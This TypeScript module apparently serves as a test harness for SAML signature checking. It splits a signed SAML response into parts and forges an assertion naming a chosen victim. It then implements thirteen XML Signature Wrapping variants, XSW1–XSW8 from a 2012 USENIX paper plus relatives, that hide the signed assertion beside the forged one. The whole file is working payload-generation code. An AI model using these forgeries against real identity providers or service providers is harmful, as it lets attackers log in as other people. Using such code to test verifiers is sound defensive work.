/** The parts of a response that attackers shuffle. */
export interface Parts {
  /** The whole document. */
  xml: string
  assertion: string
  /** The signature inside the assertion. */
  signature: string
  /** The assertion as it was before it was signed. */
  bare: string
  /** A forged assertion: another person, another id, no signature. */
  evil: string
}

/** Takes a genuine response apart. */
export function partsOf(xml: string, victim: string): Parts {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
  const signature = /<Signature[\s\S]*?<\/Signature>/.exec(assertion)?.[0] ?? ''
  const bare = assertion.replace(signature, '')
  const evil = withPerson(bare, victim).replace(/ID="[^"]*"/, 'ID="_evil"')
  if (assertion === '' || signature === '' || evil === bare) throw new Error('The response has another shape')
  return { xml, assertion, signature, bare, evil }
}

/** The same assertion about someone else. */
export function withPerson(xml: string, victim: string): string {
  return xml
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1id-${victim}`)
    .replace(/(Name="mail"[^>]*><saml:AttributeValue[^>]*>)[^<]*/, `$1${victim}`)
}

const inside = (element: string, more: string) => element.replace(/(<\/saml:Issuer>)/, `$1${more}`)
const atEnd = (element: string, more: string) =>
  element.replace(/<\/saml:Assertion>$/, `${more}</saml:Assertion>`)
const intoSignature = (signature: string, more: string) =>
  signature.replace(/<\/Signature>$/, `${more}</Signature>`)
const sameId = (evil: string, original: string) =>
  evil.replace('ID="_evil"', /ID="[^"]*"/.exec(original)?.[0] ?? 'ID="_none"')

/**
 * The eight wrapping variants of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), and relatives.
 * 1 and 2 move the whole response and want one that is signed as a whole.
 */
export const WRAPPINGS: Record<string, (parts: Parts) => string> = {
  'XSW1: the response inside the signature of a forged response': ({ xml, evil, assertion }) => {
    const own = /<Signature[\s\S]*?<\/Signature>/.exec(xml.replace(assertion, ''))?.[0] ?? ''
    const forged = xml.replace(assertion, evil).replace(/ID="[^"]*"/, 'ID="_forged"')
    return forged.replace(own, intoSignature(own, xml.replace(own, '')))
  },
  'XSW2: the response before the detached signature of a forged response': ({ xml, evil, assertion }) => {
    const own = /<Signature[\s\S]*?<\/Signature>/.exec(xml.replace(assertion, ''))?.[0] ?? ''
    const forged = xml.replace(assertion, evil).replace(/ID="[^"]*"/, 'ID="_forged"')
    return forged.replace(own, `${xml.replace(own, '')}${own}`)
  },
  'XSW3: a forged assertion before the signed one': ({ xml, evil, assertion }) =>
    xml.replace(assertion, evil + assertion),
  'XSW4: the signed assertion inside a forged one': ({ xml, evil, assertion }) =>
    xml.replace(assertion, atEnd(evil, assertion)),
  'XSW5: the signature in a forged assertion, the original after it': ({
    xml,
    evil,
    assertion,
    signature,
    bare,
  }) => xml.replace(assertion, inside(evil, signature) + bare),
  'XSW6: the original inside the signature of a forged assertion': ({
    xml,
    evil,
    assertion,
    signature,
    bare,
  }) => xml.replace(assertion, inside(evil, intoSignature(signature, bare))),
  'XSW7: a forged assertion of the same id in Extensions': ({ xml, evil, assertion }) =>
    xml.replace(assertion, `<samlp:Extensions>${sameId(evil, assertion)}</samlp:Extensions>${assertion}`),
  'XSW8: the original in an object of the forged assertion’s signature': ({
    xml,
    evil,
    assertion,
    signature,
    bare,
  }) => xml.replace(assertion, inside(evil, intoSignature(signature, `<Object>${bare}</Object>`))),
  'a forged assertion after the signed one': ({ xml, evil, assertion }) =>
    xml.replace(assertion, assertion + evil),
  'a forged assertion of the same id': ({ xml, evil, assertion }) =>
    xml.replace(assertion, sameId(evil, assertion) + assertion),
  'the signed assertion hidden in the status': ({ xml, evil, assertion }) =>
    xml
      .replace(assertion, evil)
      .replace('</samlp:Status>', `<samlp:StatusDetail>${assertion}</samlp:StatusDetail></samlp:Status>`),
  'the signed assertion under another namespace beside a forged one': ({ xml, evil, assertion }) =>
    xml.replace(assertion, `<x:Assertion xmlns:x="urn:x">${assertion}</x:Assertion>${evil}`),
  'the signature of the original on a forged assertion alone': ({ xml, evil, assertion, signature }) =>
    xml.replace(assertion, inside(sameId(evil, assertion), signature)),
}
